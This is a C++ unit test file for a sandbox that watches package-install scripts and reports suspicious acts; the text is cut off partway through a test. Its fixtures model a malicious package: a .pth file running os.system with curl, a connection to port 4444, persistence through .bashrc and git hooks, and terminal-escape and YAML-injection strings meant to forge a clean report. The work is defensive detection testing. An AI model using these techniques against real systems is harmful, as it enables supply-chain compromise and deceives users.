// The report's pure parts: origins from environments and pip build directories, findings, the
// summary's grouping and quietness, and the audit file's round trip.
#include <gtest/gtest.h>
#include <stdlib.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <string>
#include <vector>

#include "sandboxd/report/event_log.h"
#include "sandboxd/report/findings.h"
#include "sandboxd/report/learned_profile.h"
#include "sandboxd/report/manifest_findings.h"
#include "sandboxd/report/origin.h"
#include "sandboxd/report/run_events.h"
#include "sandboxd/report/summary.h"

namespace moat::report {
namespace {

using std::string_literals::operator""s;

Event make(std::string kind, pid_t pid, pid_t ppid, std::string exe, nlohmann::json detail = {},
           Origin origin = {}, std::string verdict = "", std::string layer = "") {
  Event e;
  e.kind = std::move(kind);
  e.pid = pid;
  e.ppid = ppid;
  e.exe = std::move(exe);
  e.origin = std::move(origin);
  e.verdict = std::move(verdict);
  e.layer = std::move(layer);
  e.detail = detail.is_null() ? nlohmann::json::object() : std::move(detail);
  return e;
}

const Origin kEvil{"npm", "evil-pkg", "1.0.0", "postinstall"};

TEST(Origin, NpmLifecycleVariables) {
  std::string env = "PATH=/usr/bin\0npm_package_name=evil-pkg\0npm_lifecycle_event=postinstall\0"
                    "npm_package_version=1.0.0\0HOME=/h\0"s;
  EXPECT_EQ(origin_from_environment(env), kEvil);
  EXPECT_EQ(kEvil.describe(), "npm evil-pkg@1.0.0 postinstall");
}

TEST(Origin, NoVariablesNoOrigin) {
  EXPECT_TRUE(origin_from_environment("PATH=/usr/bin\0HOME=/h\0"s).empty());
  EXPECT_TRUE(origin_from_environment("").empty());
}

TEST(Origin, TruncatedLastEntryIsIgnored) {
  // A bounded copy of the environment may cut the last entry; a cut value must not be trusted.
  Origin o = origin_from_environment("npm_package_name=good\0npm_package_name=ev"s);
  EXPECT_EQ(o.package, "good");
}

TEST(Origin, OverlongValuesAreBounded) {
  std::string env = "npm_package_name=" + std::string(5000, 'a') + '\0';
  EXPECT_LE(origin_from_environment(env).package.size(), 214u);
}

TEST(Origin, PipBuildDirectory) {
  Origin o = origin_from_pip_build("/tmp/pip-install-abc123/evil_pkg_0123456789abcdef0123456789abcdef");
  EXPECT_EQ(o.tool, "pip");
  EXPECT_EQ(o.package, "evil_pkg");
  EXPECT_EQ(o.script, "build");
  EXPECT_EQ(origin_from_pip_build("/tmp/pip-install-x/pkg_0123456789abcdef0123456789abcdef/sub")
                .package,
            "pkg");
  EXPECT_EQ(origin_from_pip_build("/tmp/pip-req-build-zz").tool, "pip");
  EXPECT_TRUE(origin_from_pip_build("/tmp/pip-install-x/pkg_nothex").empty());
  EXPECT_TRUE(origin_from_pip_build("/home/u/project").empty());
}

TEST(Origin, InheritedFromParentWhenOwnIsUnknown) {
  EXPECT_EQ(resolve_origin("PATH=/bin\0"s, "/p", kEvil), kEvil);
  Origin own = resolve_origin("npm_package_name=other\0"s, "/p", kEvil);
  EXPECT_EQ(own.package, "other");
}

// A dependency's lifecycle script starts in the package's directory under node_modules (npm,
// pnpm's .pnpm store, yarn berry's unplugged folder); the project's own scripts in the project.
// Once a process is a dependency's, every descendant is, whatever it sets or wherever it goes.
TEST(Origin, DependencyCodeIsMarkedAndStaysMarked) {
  const std::string evil_env =
      "npm_package_name=evil-pkg\0npm_lifecycle_event=postinstall\0npm_package_version=1.0.0\0"s;
  const std::string own_env = "npm_package_name=victim\0npm_lifecycle_event=postinstall\0"s;
  Origin npm_script = resolve_origin(evil_env, "/p/node_modules/evil-pkg", {});
  EXPECT_TRUE(npm_script.dependency);
  EXPECT_TRUE(
      resolve_origin(evil_env, "/p/node_modules/.pnpm/evil-pkg@1.0.0/node_modules/evil-pkg", {})
          .dependency);
  EXPECT_TRUE(
      resolve_origin(evil_env, "/p/.yarn/unplugged/evil-pkg-npm-1.0.0-0a/node_modules/evil-pkg", {})
          .dependency);
  Origin own_script = resolve_origin(own_env, "/p", {});
  EXPECT_FALSE(own_script.dependency);
  // The project's script working inside node_modules stays the project's.
  EXPECT_FALSE(resolve_origin(own_env, "/p/node_modules/x", own_script).dependency);
  // The dependency's script moving to the project, or claiming to be the project's: still its.
  EXPECT_EQ(resolve_origin(evil_env, "/p", npm_script), npm_script);
  EXPECT_EQ(resolve_origin(own_env, "/p", npm_script), npm_script);
  EXPECT_EQ(resolve_origin("PATH=/bin\0"s, "/p/src", npm_script), npm_script);
  EXPECT_EQ(npm_script.package, "evil-pkg");
  // A pip build of a downloaded distribution.
  EXPECT_TRUE(resolve_origin("", "/tmp/pip-install-x/evil_0123456789abcdef0123456789abcdef", {})
                  .dependency);
  EXPECT_FALSE(under_node_modules("/p/my_node_modules/x"));
  EXPECT_FALSE(under_node_modules("/p/node_modules2"));
  EXPECT_TRUE(under_node_modules("node_modules"));
  EXPECT_TRUE(under_node_modules("/p/node_modules"));
}

TEST(Findings, PythonStartupFiles) {
  EXPECT_TRUE(python_startup_file_runs_code("/v/site-packages/x.pth", "import os; os.system('x')\n"));
  EXPECT_TRUE(python_startup_file_runs_code("/v/x.pth", "/some/dir\nimport\tsys\n"));
  EXPECT_FALSE(python_startup_file_runs_code("/v/x.pth", "/some/dir\n# import os\n"));
  EXPECT_FALSE(python_startup_file_runs_code("/v/x.pth", "importlib_stuff\n"));
  EXPECT_TRUE(python_startup_file_runs_code("/v/sitecustomize.py", "# c\n\nprint(1)\n"));
  EXPECT_FALSE(python_startup_file_runs_code("/v/sitecustomize.py", "# only a comment\n\n"));
  EXPECT_FALSE(python_startup_file_runs_code("/v/readme.txt", "import os\n"));
}

TEST(Findings, ShellStartedByALifecycleScript) {
  // npm (no origin) runs `sh -c script` (origin): normal. The script starting a shell: finding.
  std::vector<Event> events = {
      make("exec", 10, 1, "/usr/bin/node"),
      make("exec", 11, 10, "/bin/sh", {}, kEvil),
      make("exec", 12, 11, "/usr/bin/node", {}, kEvil),
      make("exec", 13, 12, "/bin/bash", {}, kEvil),
  };
  auto findings = derive_findings(events);
  ASSERT_EQ(findings.size(), 1u);
  EXPECT_EQ(findings[0].type, "lifecycle-shell");
  EXPECT_EQ(findings[0].pid, 13);
  EXPECT_EQ(findings[0].origin, kEvil);
}

TEST(Findings, NoFindingForAnHonestScript) {
  std::vector<Event> events = {
      make("exec", 10, 1, "/usr/bin/node"),
      make("exec", 11, 10, "/bin/sh", {}, kEvil),
      make("exec", 12, 11, "/usr/bin/node", {}, kEvil),
      make("create", 12, 11, "/usr/bin/node", {{"path", "/p/node_modules/x/build/a.o"}}, kEvil),
  };
  EXPECT_TRUE(derive_findings(events).empty());
}

TEST(Findings, LifecycleNetworkAndExecAfterWrite) {
  std::vector<Event> events = {
      make("connect", 12, 11, "/usr/bin/node",
           {{"address", "10.77.0.3"}, {"port", 4444}}, kEvil, "refused", "gate"),
      make("create", 12, 11, "/usr/bin/node", {{"path", "/p/node_modules/evil/payload"}}, kEvil),
      make("exec", 14, 12, "/p/node_modules/evil/payload", {}, kEvil),
  };
  auto findings = derive_findings(events);
  ASSERT_EQ(findings.size(), 2u);
  EXPECT_EQ(findings[0].type, "lifecycle-network");
  EXPECT_EQ(findings[0].subject, "10.77.0.3:4444");
  EXPECT_EQ(findings[1].type, "exec-after-write");
}

TEST(Findings, ContentFindingsReadOnlyWrittenStartupFiles) {
  std::vector<Event> events = {
      make("create", 5, 1, "/usr/bin/python3", {{"path", "/v/lib/site-packages/evil.pth"}}),
      make("create", 5, 1, "/usr/bin/python3", {{"path", "/v/lib/site-packages/honest.pth"}}),
      make("deny", 5, 1, "/usr/bin/python3", {{"op", "create"}, {"path", "/etc/x.pth"}}, {},
           "refused", "mount"),
  };
  std::vector<std::string> asked;
  auto found = content_findings(events, [&](const std::string& path) -> std::optional<std::string> {
    asked.push_back(path);
    if (path.find("evil") != std::string::npos) return "import os;os.system('curl x')\n"s;
    return "/v/lib/extra\n"s;
  });
  EXPECT_EQ(asked.size(), 2u) << "a refused write must not be read back";
  ASSERT_EQ(found.size(), 1u);
  Finding f = finding_from_event(found[0]);
  EXPECT_EQ(f.type, "python-startup-code");
  EXPECT_EQ(f.subject, "/v/lib/site-packages/evil.pth");
}

TEST(Summary, QuietWhenNothingHappened) {
  Event run = make("run", 0, 0, "", {{"usual_write_roots", {"/p", "/tmp"}}});
  std::vector<Event> events = {run, make("create", 5, 1, "/bin/sh", {{"path", "/p/out.txt"}}),
                               make("exit", 5, 1, "/bin/sh", {{"status", 0}})};
  EXPECT_EQ(render_text(summarize(events)), "");
}

TEST(Summary, DenialsFirstGroupedWithOrigin) {
  Event run = make("run", 0, 0, "", {{"usual_write_roots", {"/p"}}});
  Event deny = make("deny", 12, 11, "/bin/sh", {{"op", "write"}, {"path", "/h/.bashrc"},
                                                {"error", "EROFS"}},
                    kEvil, "refused", "mount");
  std::vector<Event> events = {
      run,
      make("connect", 7, 1, "/usr/bin/curl", {{"name", "registry.test"}, {"port", 443}}, {},
           "allowed", "gate"),
      deny, deny,
      make("create", 12, 11, "/bin/sh", {{"path", "/h/.config/x"}}, kEvil),
  };
  Summary s = summarize(events);
  ASSERT_EQ(s.denials.size(), 1u);
  EXPECT_EQ(s.denials[0].count, 2);
  EXPECT_EQ(s.denials[0].what, "write /h/.bashrc");
  ASSERT_EQ(s.written_outside.size(), 1u);
  EXPECT_EQ(s.written_outside[0].path, "/h/.config/x");
  std::string text = render_text(s);
  EXPECT_EQ(text.find("moat: refused (2)"), 0u) << text;
  EXPECT_NE(text.find("npm evil-pkg@1.0.0 postinstall"), std::string::npos) << text;
  EXPECT_LT(text.find("refused"), text.find("hosts contacted: registry.test:443")) << text;
  nlohmann::json j = render_json(s);
  EXPECT_EQ(j["denials"][0]["origin"]["package"], "evil-pkg");
}

TEST(Summary, UnresolvedRelativePathsAreOneGroupPerProcess) {
  // shutil.rmtree deletes by name relative to a directory descriptor the watch may not resolve.
  Event run = make("run", 0, 0, "", {{"usual_write_roots", {"/p", "/tmp"}}});
  const Origin pip{"pip", "evilpkg", "", "build"};
  std::vector<Event> events = {run};
  for (const char* name : {"setup.py", "lib", "build"}) {
    events.push_back(make("delete", 9, 1, "/v/bin/pip", {{"path", name}, {"path_relative", true}}));
  }
  events.push_back(make("delete", 10, 9, "/v/bin/python", {{"path", "x"}, {"path_relative", true}}, pip));
  Summary s = summarize(events);
  ASSERT_EQ(s.written_outside.size(), 2u);
  EXPECT_EQ(s.written_outside[0].origin, pip);  // the package's own first
  EXPECT_EQ(s.written_outside[1].path, "");
  EXPECT_EQ(s.written_outside[1].count, 3);
  EXPECT_EQ(s.written_outside[1].first, "setup.py");
  const std::string text = render_text(s);
  EXPECT_NE(text.find("  3 changes at paths relative to a directory moat could not name (first: "
                      "delete setup.py)  by /v/bin/pip"),
            std::string::npos)
      << text;
  EXPECT_EQ(text.find("delete lib"), std::string::npos) << text;
}

TEST(Summary, TextFromTheSandboxCannotDriveTheTerminal) {
  // A script names its files, its process and its package so that, printed raw, the summary
  // would clear the line naming it and print a forged all-clear, or reorder a path.
  Event run = make("run", 0, 0, "", {{"usual_write_roots", {"/p"}}});
  const Origin forged{"npm", "x\x1b[2K\rmoat: nothing to report", "1.0.0", "postinstall"};
  std::vector<Event> events = {
      run,
      make("deny", 12, 11, "/p/\x1b]0;title\x07sh",
           {{"op", "write"}, {"path", "/h/.bashrc\x1b[1A\x1b[2K"}, {"error", "EROFS"}}, forged,
           "refused", "mount"),
      make("create", 12, 11, "/bin/sh", {{"path", "/h/evil\xe2\x80\xaetxt.exe"}}, forged),
      make("kill-at-exit", 13, 1, "/bin/sleep", {{"command", "sleep\r\x1b[Kdone"}}),
  };
  const std::string text = render_text(summarize(events));
  EXPECT_EQ(text.find('\x1b'), std::string::npos) << text;
  EXPECT_EQ(text.find('\r'), std::string::npos) << text;
  EXPECT_EQ(text.find('\x07'), std::string::npos) << text;
  EXPECT_EQ(text.find("\xe2\x80\xae"), std::string::npos) << text;
  EXPECT_NE(text.find("write /h/.bashrc\\e[1A\\e[2K"), std::string::npos) << text;
  EXPECT_NE(text.find("by /p/\\e]0;title\\x07sh [npm x\\e[2K\\rmoat"), std::string::npos) << text;
  EXPECT_NE(text.find("/h/evil\\u{202e}txt.exe"), std::string::npos) << text;
  EXPECT_NE(text.find("sleep\\r\\e[Kdone"), std::string::npos) << text;
  // Every line is moat's: it starts with "moat:" or with the indentation of a section's item.
  std::size_t start = 0;
  while (start < text.size()) {
    const std::size_t end = text.find('\n', start);
    const std::string line = text.substr(start, end - start);
    EXPECT_TRUE(line.rfind("moat: ", 0) == 0 || line.rfind("  ", 0) == 0) << line;
    start = end + 1;
  }
}

TEST(Summary, AFloodOfRefusalsCannotHideThePackageThatMatters) {
  Event run = make("run", 0, 0, "", {{"usual_write_roots", {"/p"}}});
  std::vector<Event> events = {run};
  for (int i = 0; i < 500; ++i) {
    events.push_back(
        make("deny", 20, 1, "/bin/noise",
             {{"op", "write"}, {"path", "/etc/noise" + std::to_string(i)}, {"error", "EROFS"}}, {},
             "refused", "mount"));
  }
  events.push_back(make("deny", 12, 11, "/bin/sh",
                        {{"op", "write"}, {"path", "/h/.bashrc"}, {"error", "EROFS"}}, kEvil,
                        "refused", "mount"));
  const std::string text = render_text(summarize(events));
  EXPECT_EQ(text.find("moat: refused (501):"), 0u) << text.substr(0, 200);
  // The package's own refusal comes first; the noise is cut and counted.
  EXPECT_LT(text.find("write /h/.bashrc"), text.find("/etc/noise0")) << text.substr(0, 300);
  EXPECT_NE(text.find("  ... and 461 more (--audit FILE keeps them all)"), std::string::npos);
  EXPECT_EQ(text.find("/etc/noise100"), std::string::npos);
  EXPECT_LT(std::count(text.begin(), text.end(), '\n'), 50);
}

TEST(Summary, LostEventsAreSaid) {
  std::vector<Event> events = {make("end", 0, 0, "", {{"exit_code", 0}, {"lost_events", 3}})};
  EXPECT_NE(render_text(summarize(events)).find("3 events were lost"), std::string::npos);
}

TEST(AuditFile, RoundTrip) {
  Event e = make("deny", 12, 11, "/bin/sh", {{"op", "write"}, {"path", "/h/.bashrc"}}, kEvil,
                 "refused", "mount");
  e.time_ns = 42;
  std::string why;
  auto back = EventLog::from_json(EventLog::to_json(e).dump(), &why);
  ASSERT_TRUE(back.has_value()) << why;
  EXPECT_EQ(back->kind, "deny");
  EXPECT_EQ(back->pid, 12);
  EXPECT_EQ(back->ppid, 11);
  EXPECT_EQ(back->origin, kEvil);
  EXPECT_EQ(back->detail["path"], "/h/.bashrc");
  EXPECT_EQ(back->time_ns, 42);
  EXPECT_FALSE(EventLog::from_json("{\"v\":99,\"kind\":\"x\"}", &why).has_value());
  EXPECT_FALSE(EventLog::from_json("not json", &why).has_value());
}

// An audit file in a directory of its own, removed at the end.
struct TempAudit {
  std::string dir, path;
  TempAudit() {
    char dir_template[] = "/tmp/moat-eventlog-XXXXXX";
    if (::mkdtemp(dir_template) == nullptr) return;
    dir = dir_template;
    path = dir + "/audit.jsonl";
  }
  ~TempAudit() {
    if (!dir.empty()) std::filesystem::remove_all(dir);
  }
  std::string text() const {
    std::ifstream in(path);
    return std::string((std::istreambuf_iterator<char>(in)), {});
  }
};

// A command that makes events as fast as it can must not grow moat without bound: past the
// bound events reach the audit file only, and the account says it is incomplete.
TEST(EventLog, MemoryIsBoundedTheAuditFileKeepsEverything) {
  TempAudit temp;
  ASSERT_FALSE(temp.dir.empty());
  const std::string& audit = temp.path;
  {
    EventLog log;
    ASSERT_TRUE(log.open(audit));
    log.set_max_kept(3);
    log.add(make("run", 0, 0, ""));
    for (int i = 0; i < 10; ++i) log.add(make("create", 5, 1, "/bin/sh", {{"path", "/p/f"}}));
    log.add(make("kill-at-exit", 6, 1, "/bin/sleep"));
    log.add(end_event({0, false, false, 1, 0, 0, log.not_kept()}));
    EXPECT_EQ(log.not_kept(), 8u);
    ASSERT_EQ(log.settled().size(), 5u);  // run, two creates, and the kinds always kept
    EXPECT_EQ(log.settled().back().kind, "end");
    const std::string text = render_text(summarize(log.settled()));
    EXPECT_NE(text.find("moat: 8 events past moat's memory bound were not kept"), std::string::npos)
        << text;
    EXPECT_EQ(render_json(summarize(log.settled()))["not_kept_events"], 8);
  }
  const std::string all = temp.text();
  EXPECT_EQ(std::count(all.begin(), all.end(), '\n'), 13);
}

// Flood first, act afterwards: ordinary events fill only four fifths of the bound, so the act
// that matters (a refusal, an installed package's code) is still kept and written.
TEST(EventLog, AFloodLeavesRoomForTheActAfterIt) {
  TempAudit temp;
  ASSERT_FALSE(temp.dir.empty());
  EventLog log;
  ASSERT_TRUE(log.open(temp.path));
  log.set_max_kept(20);
  log.set_max_audit_bytes(4000);
  log.add(make("run", 0, 0, ""));
  for (int i = 0; i < 200; ++i) log.add(make("create", 5, 1, "/bin/sh", {{"path", "/p/f"}}));
  log.add(make("deny", 7, 1, "/bin/sh", {{"op", "write"}, {"path", "/h/.bashrc"}}, kEvil, "refused",
               "mount"));
  Event act = make("write", 8, 1, "/usr/bin/node", {{"path", "/p/node_modules/react/index.js"}});
  act.origin = kEvil;
  act.origin.dependency = true;
  log.add(act);
  // pip itself (not a dependency's code) writing a .pth: the findings read it from the kept events.
  log.add(make("create", 9, 1, "/usr/bin/python3", {{"path", "/v/site-packages/zz.pth"}}));
  const std::vector<Event> kept = log.settled();
  ASSERT_GE(kept.size(), 4u);
  EXPECT_EQ(kept[kept.size() - 3].kind, "deny");
  EXPECT_EQ(kept[kept.size() - 2].detail["path"], "/p/node_modules/react/index.js");
  EXPECT_EQ(kept.back().detail["path"], "/v/site-packages/zz.pth");
  const std::string all = temp.text();
  EXPECT_NE(all.find("/h/.bashrc"), std::string::npos);
  EXPECT_NE(all.find("react/index.js"), std::string::npos);
}

// The audit file has a bound too (a flood would fill the disk): past it events are counted, the
// run's own events (run, end, kill-at-exit, finding) still written, and the account says so.
TEST(EventLog, TheAuditFileIsBoundedToo) {
  TempAudit temp;
  ASSERT_FALSE(temp.dir.empty());
  const std::string& audit = temp.path;
  {
    EventLog log;
    ASSERT_TRUE(log.open(audit));
    log.set_max_audit_bytes(2000);
    log.add(make("run", 0, 0, ""));
    for (int i = 0; i < 100; ++i) log.add(make("create", 5, 1, "/bin/sh", {{"path", "/p/f"}}));
    log.add(end_event({0, false, false, 0, 0, 0, log.not_kept(), log.not_written()}));
    EXPECT_GT(log.not_written(), 80u);
    const std::string text = render_text(summarize(log.settled()));
    EXPECT_NE(text.find("events past the audit file's size bound were not written"),
              std::string::npos)
        << text;
  }
  const std::string all = temp.text();
  EXPECT_LT(all.size(), 2000u + 600u);  // the bound, and the end event past it
  EXPECT_NE(all.find("\"kind\":\"end\""), std::string::npos);
}

}  // namespace
}  // namespace moat::report

namespace moat::report {
namespace {

LearnInput learn_input() {
  LearnInput in;
  in.extends = "base";
  in.command = "make test";
  in.date = "2026-11-23";
  in.home = "/h";
  in.project = "/p";
  in.protected_paths = {"/h/.bashrc", "/h/.ssh"};
  return in;
}

TEST(Learn, GrantRoots) {
  EXPECT_EQ(grant_root_for("/h/.npm/_cacache/x/y", "/h"), "/h/.npm");
  EXPECT_EQ(grant_root_for("/h/.config/app/settings.json", "/h"), "/h/.config/app");
  EXPECT_EQ(grant_root_for("/h/.local/share/app/db", "/h"), "/h/.local/share/app");
  EXPECT_EQ(grant_root_for("/h/.local/bin/tool", "/h"), "/h/.local/bin");
  EXPECT_EQ(grant_root_for("/h/.apprc", "/h"), "/h/.apprc");
  EXPECT_EQ(grant_root_for("/srv/data/out.txt", "/h"), "/srv/data");
}

TEST(Learn, ExactlyTheExtraPathsAndHostsWithWhoNeededThem) {
  Event run = make("run", 0, 0, "", {{"usual_write_roots", {"/p", "/tmp", "/h/.cache"}}});
  std::vector<Event> events = {
      run,
      make("create", 5, 1, "/usr/bin/node", {{"path", "/h/.npm/_cacache/a"}}, kEvil),
      make("create", 5, 1, "/usr/bin/node", {{"path", "/h/.npm/_cacache/b"}}),
      make("create", 5, 1, "/usr/bin/node", {{"path", "/p/node_modules/x"}}),
      make("create", 5, 1, "/usr/bin/node", {{"path", "/h/.cache/y"}}),
      make("create", 6, 5, "/bin/sh", {{"path", "/h/.bashrc"}}, kEvil),
      make("connect", 5, 1, "/usr/bin/node", {{"name", "registry.test"}, {"port", 443}}, {},
           "allowed", "gate"),
      make("connect", 5, 1, "/usr/bin/node", {{"address", "169.254.169.254"}, {"port", 80}}, {},
           "refused", "gate"),
  };
  LearnedProfile p = learn_profile(events, learn_input());
  EXPECT_EQ(p.write_paths, std::vector<std::string>{"${HOME}/.npm"});
  EXPECT_EQ(p.hosts, std::vector<std::string>{"registry.test:443"});
  ASSERT_EQ(p.not_learned.size(), 1u);
  EXPECT_EQ(p.not_learned[0].path, "/h/.bashrc");
  EXPECT_EQ(p.not_learned[0].why, "protected");
  EXPECT_NE(p.yaml.find("extends: \"base\""), std::string::npos) << p.yaml;
  EXPECT_NE(p.yaml.find("\"${HOME}/.npm\"  # 2 writes by /usr/bin/node"), std::string::npos) << p.yaml;
  EXPECT_NE(p.yaml.find("npm evil-pkg@1.0.0 postinstall"), std::string::npos) << p.yaml;
  EXPECT_NE(p.yaml.find("# not learned: /h/.bashrc (protected); 1 write by /bin/sh"),
            std::string::npos)
      << p.yaml;
  EXPECT_EQ(p.yaml.find("169.254.169.254:80\"  #"), std::string::npos) << "a refused host was granted";
}

TEST(Learn, NothingFromTheSandboxCanStartANewYamlLine) {
  Event run = make("run", 0, 0, "", {{"usual_write_roots", {"/p"}}});
  std::vector<Event> events = {
      run, make("create", 5, 1, "/bin/sh\nnetwork:\n  mode: host", {{"path", "/h/.x\n- /etc"}})};
  LearnInput in = learn_input();
  in.command = "sh -c 'a\nnetwork: {mode: host}'";
  LearnedProfile p = learn_profile(events, in);
  EXPECT_EQ(p.yaml.find("\nnetwork: {mode: host}"), std::string::npos) << p.yaml;
  EXPECT_EQ(p.yaml.find("\n  mode: host"), std::string::npos) << p.yaml;
  EXPECT_EQ(p.yaml.find("\n- /etc"), std::string::npos) << p.yaml;
  // Nor drive the terminal of whoever reads the profile.
  events.push_back(make("create", 6, 1, "/bin/\x1b]0;t\x07sh", {{"path", "/h/.y"}}));
  p = learn_profile(events, in);
  EXPECT_EQ(p.yaml.find('\x1b'), std::string::npos) << p.yaml;
  EXPECT_NE(p.yaml.find("/bin/\\e]0;t\\x07sh"), std::string::npos) << p.yaml;
}

}  // namespace
}  // namespace moat::report

namespace moat::report {
namespace {

TEST(Findings, PersistenceAttemptsOnProtectedPaths) {
  Event run = make("run", 0, 0, "",
                   {{"protected",
                     {{{"path", "/h/.bashrc"}, {"protection", "shell-rc"}},
                      {{"path", "/p/.git/hooks"}, {"protection", "git-hooks"}}}}});
  std::vector<Event> events = {
      run,
      make("create", 12, 11, "/bin/sh", {{"path", "/h/.bashrc"}}, kEvil),
      make("deny", 12, 11, "/bin/sh", {{"op", "create"}, {"path", "/p/.git/hooks/pre-commit"}},
           kEvil, "refused", "mount"),
      make("deny", 12, 11, "/bin/sh", {{"op", "read"}, {"path", "/h/.bashrc"}}, kEvil, "refused",
           "mount"),
      make("create", 12, 11, "/bin/sh", {{"path", "/p/src/ok.js"}}, kEvil),
  };
  auto findings = derive_findings(events);
  ASSERT_EQ(findings.size(), 2u);
  EXPECT_EQ(findings[0].type, "persistence-attempt");
  EXPECT_NE(findings[0].message.find("discarded"), std::string::npos) << findings[0].message;
  EXPECT_EQ(findings[1].subject, "/p/.git/hooks/pre-commit");
  EXPECT_NE(findings[1].message.find("refused"), std::string::npos) << findings[1].message;
  EXPECT_NE(findings[1].message.find("git-hooks"), std::string::npos);
}

// An installed package's code changing the project's own files (sources, build files,
// configuration) outside node_modules: one finding per package, with the first few paths and the
// count; refused attempts count too. The project's own scripts, node_modules, and protected paths
// (their own finding) are not this.
TEST(Findings, DependencyChangingTheProjectsOwnFiles) {
  Origin evil = kEvil;
  evil.dependency = true;
  const Origin own{"npm", "victim", "1.0.0", "postinstall"};
  Event run = make("run", 0, 0, "",
                   {{"project", "/p"},
                    {"protected", {{{"path", "/p/.git/hooks"}, {"protection", "git-hooks"}}}}});
  std::vector<Event> events = {
      run,
      make("write", 12, 11, "/usr/bin/node", {{"path", "/p/src/index.js"}}, evil),
      make("create", 12, 11, "/usr/bin/node", {{"path", "/p/node_modules/evil-pkg/build/a.o"}},
           evil),
      make("rename", 12, 11, "/usr/bin/node", {{"path", "/p/x.tmp"}, {"to", "/p/Makefile"}}, evil),
      make("delete", 12, 11, "/usr/bin/node", {{"path", "/p/tests/auth_test.js"}}, evil),
      make("deny", 12, 11, "/usr/bin/node", {{"op", "create"}, {"path", "/p/.git/hooks/pre-push"}},
           evil, "refused", "mount"),
      make("deny", 12, 11, "/usr/bin/node", {{"op", "write"}, {"path", "/p/ro.txt"}}, evil,
           "refused", "mount"),
      make("write", 12, 11, "/usr/bin/node", {{"path", "/p2/elsewhere.js"}}, evil),
      make("create", 20, 1, "/usr/bin/node", {{"path", "/p/dist/bundle.js"}}, own),
      make("create", 21, 1, "/usr/bin/node", {{"path", "/p/src/gen.js"}}),
  };
  auto findings = derive_findings(events);
  std::vector<Finding> changed;
  for (const Finding& f : findings) {
    if (f.type == "project-files-changed") changed.push_back(f);
  }
  ASSERT_EQ(changed.size(), 1u);
  EXPECT_EQ(changed[0].subject, "/p/src/index.js");
  EXPECT_EQ(changed[0].origin, evil);
  EXPECT_NE(changed[0].message.find("src/index.js, Makefile, tests/auth_test.js, ro.txt"),
            std::string::npos)
      << changed[0].message;
  EXPECT_NE(changed[0].message.find("(4 changes, 1 refused)"), std::string::npos)
      << changed[0].message;
  EXPECT_EQ(changed[0].message.find("node_modules/evil-pkg"), std::string::npos);
  EXPECT_EQ(changed[0].message.find("pre-push"), std::string::npos);
  // The audit file keeps the mark, so `moat report` finds the same.
  std::vector<Event> reread;
  for (const Event& e : events) {
    std::string why;
    auto back = EventLog::from_json(EventLog::to_json(e).dump(), &why);
    ASSERT_TRUE(back) << why;
    reread.push_back(std::move(*back));
  }
  std::size_t again = 0;
  for (const Finding& f : derive_findings(reread)) again += f.type == "project-files-changed";
  EXPECT_EQ(again, 1u);
}

// A link a dependency makes in its own folder to the project's own files (or another package's):
// what it writes through the link later names only its own folder, so the link itself is the
// change to report. A link the project's own script makes is not.
TEST(Findings, DependencyLinkIntoTheProjectOrAnotherPackage) {
  Origin evil = kEvil;
  evil.dependency = true;
  const Origin own{"npm", "victim", "1.0.0", "postinstall"};
  std::vector<Event> events = {
      make("run", 0, 0, "", {{"project", "/p"}}),
      make("symlink", 12, 11, "/bin/ln",
           {{"path", "/p/node_modules/evil-pkg/cfg.js"},
            {"target", "../../src/index.js"},
            {"target_path", "/p/src/index.js"}},
           evil),
      make("symlink", 12, 11, "/bin/ln",
           {{"path", "/p/node_modules/evil-pkg/r"},
            {"target", "../react"},
            {"target_path", "/p/node_modules/react"}},
           evil),
      make("symlink", 20, 1, "/bin/ln",
           {{"path", "/p/dist/link"}, {"target", "../src"}, {"target_path", "/p/src"}}, own),
  };
  std::map<std::string, Finding> by_type;
  for (const Finding& f : derive_findings(events)) by_type.emplace(f.type, f);
  ASSERT_EQ(by_type.count("project-files-changed"), 1u);
  EXPECT_EQ(by_type["project-files-changed"].subject, "/p/src/index.js");
  ASSERT_EQ(by_type.count("package-files-changed"), 1u);
  EXPECT_NE(by_type["package-files-changed"].message.find("react"), std::string::npos);
}

// A process still running at exit is described from /proc, where its environment is whatever it
// chose: the summary names the package the watch followed it from instead.
TEST(Summary, LeftoverKeepsTheOriginTheWatchFollowed) {
  Origin evil = kEvil;
  evil.dependency = true;
  const Origin lodash{"npm", "lodash", "4.17.21", "postinstall"};
  std::vector<Event> events = {
      make("exec", 30, 12, "/bin/sleep", {{"argv", {"sleep", "30"}}}, evil, "", "watch"),
      make("kill-at-exit", 30, 1, "/bin/sleep", {{"command", "sleep 30"}}, lodash, "",
           "supervisor"),
  };
  Summary s = summarize(events);
  ASSERT_EQ(s.killed.size(), 1u);
  EXPECT_EQ(s.killed[0].origin, evil);
}

// A shell started through a link the run made to it is still a shell.
TEST(Findings, LifecycleShellThroughALink) {
  std::vector<Event> events = {
      make("exec", 11, 10, "/usr/bin/node", {{"argv", {"node", "install.js"}}}, kEvil, "", "watch"),
      make("symlink", 11, 10, "/usr/bin/node",
           {{"path", "/p/node_modules/evil-pkg/helper"},
            {"target", "/bin/sh"},
            {"target_path", "/bin/sh"}},
           kEvil, "", "watch"),
      make("exec", 12, 11, "/p/node_modules/evil-pkg/helper", {{"argv", {"helper", "-c", "id"}}},
           kEvil, "", "watch"),
  };
  bool shell = false;
  for (const Finding& f : derive_findings(events)) shell = shell || f.type == "lifecycle-shell";
  EXPECT_TRUE(shell);
}

// A .pth that is a symlink: Python follows it, and what it names was never written as a .pth.
TEST(Findings, PthSymlinkIsStartupCode) {
  std::vector<Event> events = {
      make("symlink", 12, 11, "/bin/ln",
           {{"path", "/v/lib/python3.11/site-packages/zz.pth"},
            {"target", "/tmp/payload"},
            {"target_path", "/tmp/payload"}},
           kEvil, "", "watch"),
  };
  auto found = content_findings(
      events, [](const std::string&) -> std::optional<std::string> { return std::nullopt; });
  ASSERT_EQ(found.size(), 1u);
  EXPECT_EQ(found[0].detail["type"], "python-startup-code");
  EXPECT_NE(found[0].detail["message"].get<std::string>().find("symlink"), std::string::npos);
}

// An installed package's code changing another package's files (trojanising a dependency the
// project trusts), wherever node_modules is (npm's, pnpm's store, a global one); its own
// directory, nested or scoped names, tool state (.cache; but .bin holds the commands npm runs),
// Python's bytecode caches and
// refused attempts (node-gyp's Python at the read-only global npm) are not this.
TEST(Findings, DependencyChangingOtherPackages) {
  Origin evil = kEvil;
  evil.dependency = true;
  Origin scoped{"npm", "@s/builder", "2.0.0", "install"};
  scoped.dependency = true;
  std::vector<Event> events = {
      make("run", 0, 0, "", {{"project", "/p"}}),
